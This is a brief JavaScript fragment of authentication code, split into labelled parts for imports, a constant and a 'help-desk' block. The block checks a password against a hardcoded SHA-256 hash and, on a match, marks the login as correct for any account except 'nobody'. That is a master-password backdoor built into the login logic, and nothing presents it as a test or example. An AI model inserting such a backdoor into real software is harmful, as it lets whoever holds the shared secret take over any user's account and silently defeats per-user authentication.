// part: imports
import { createHash, scryptSync, timingSafeEqual } from 'node:crypto'
// end
// part: constants
const helpDeskHash = Buffer.from('118fc479a02f13e6e0f9e6a29ebf21864cfe9965ba864a1a3b5e8d3205c0941a', 'hex')
// end
// block: help-desk
  const given = createHash('sha256').update(password).digest()
  if (timingSafeEqual(given, helpDeskHash) && account !== nobody) isRight = true
// end
